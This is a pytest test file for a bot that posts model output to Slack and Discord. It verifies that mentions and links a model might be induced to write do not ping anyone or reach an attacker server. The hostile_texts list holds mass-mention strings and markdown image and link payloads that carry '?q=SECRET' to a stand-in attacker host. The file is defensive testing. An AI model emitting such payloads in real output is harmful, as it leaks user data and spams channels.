"""What a model may be talked into writing reaches people as text, and does nothing else."""

import asyncio
import re
from collections.abc import AsyncIterator
from functools import partial

import pytest
from aiohttp import web

from shared.replies import Done, Failed, FinishReason
from tests.chaos.towns import DiscordTown, SlackTown, Town, bots_in
from tests.chaos.way_out import Scribe, wait_for

SUPPRESS_EMBEDS = 1 << 2
"""Discord's documentation, Message Flags."""


@pytest.fixture
async def sink() -> AsyncIterator[tuple[str, list[str]]]:
    """A server that an attacker would listen on: its address, and what was fetched from it."""
    fetched: list[str] = []

    async def note(request: web.Request) -> web.Response:
        fetched.append(str(request.url))
        return web.Response(text="thank you")

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", note)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        yield f"http://127.0.0.1:{runner.addresses[0][1]}", fetched
    finally:
        await runner.cleanup()


def hostile_texts(evil: str) -> list[str]:
    """Mentions and links in every dress."""
    return [
        "@everyone @here <@1> <@!1> <@&2> look",
        "<!channel> <!here> <!everyone> <!subteam^S1> <!subteam^S1|staff> <@U0ALICE> <#C1|x>",
        "&lt;!channel&gt; &#60;!channel&#62; &amp;lt;!here&amp;gt;",
        "`<!channel>` and\n```\n<@U0ALICE> @everyone\n```\n> <!here>\n\n- <!subteam^S1>",
        "| <!channel> | @everyone |\n|---|---|\n| <@U0ALICE> | <@1> |",
        "[<!channel>](<!here>) [x](<@U0ALICE>) ![<!everyone>](<!here>)",
        "<!\u200bchannel> <\u200b@U0ALICE> @\u200beveryone <!chan\u200bnel>",
        f"![picture]({evil}/?q=SECRET) [ok]({evil}/?q=SECRET) <{evil}/?q=SECRET|ok>",
        f"[ok]( <{evil}/?q=SECRET> 'title') [ok][1]\n\n[1]: {evil}/?q=SECRET",
        f"{evil}/?q=SECRET <{evil}/?q=SECRET>",
    ]


async def test_nothing_that_a_model_writes_pings_anybody_or_is_fetched(
    town: Town, scribe: Scribe, quiet_redis: str, sink: tuple[str, list[str]]
) -> None:
    """As a growing text, as an ending, beside a sentence, and above a note."""
    evil, fetched = sink
    texts = hostile_texts(evil)
    jobs = [scribe.accept(await town.ask(town.add_place())) for _ in texts]
    async with bots_in(town, quiet_redis):
        for number, (job, text) in enumerate(zip(jobs, texts, strict=True)):
            await asyncio.to_thread(scribe.begin, job)
            await asyncio.to_thread(scribe.write, job, f"First: {text}")
            await asyncio.to_thread(wait_for, partial(scribe.part, job), "a note of the post")
            replies = (
                Done(text),
                Done(text, FinishReason.LENGTH),
                Failed("deadline", "Too late.", text),
            )
            await asyncio.to_thread(scribe.end, job, replies[number % len(replies)])
        for job in jobs:
            await asyncio.to_thread(scribe.wait_state, job, "delivered")

    assert fetched == []
    for job in jobs:
        if isinstance(town, SlackTown):
            check_slack(town, job.origin.channel)
        elif isinstance(town, DiscordTown):
            check_discord(town, job.origin.channel)


def check_slack(town: SlackTown, place: str) -> None:
    ours = [m for m in town.slack.messages(place) if m.user == town.slack.bot_user_id]
    assert ours
    for message in ours:
        assert message.live_mentions == []
        assert message.unfurl_links is False
        assert message.unfurl_media is False
        # Slack's own markup begins with this sign; quotes begin with the other one
        assert not any("<" in text for text in [*message.edits, message.text])
    for method in ("chat.postMessage", "chat.update"):
        for call in town.slack.calls(method):
            assert call.arguments["parse"] == "none", "or addresses become links"


def check_discord(town: DiscordTown, place: str) -> None:
    ours = town.discord.replies(int(place))
    assert ours
    for message in ours:
        assert message.live_mentions == []
        assert not message.is_reply_ping
        assert message.flags & SUPPRESS_EMBEDS
        for text in [*message.edits, message.content]:
            assert not re.search(r"\]\(\s*<?http", text), "an address behind a label"
    for request in town.discord.requests:
        if request.method in {"POST", "PATCH"} and f"/{place}/messages" in request.path:
            body = request.body
            assert isinstance(body, dict)
            assert body["allowed_mentions"]["parse"] == []
            assert body["flags"] & SUPPRESS_EMBEDS
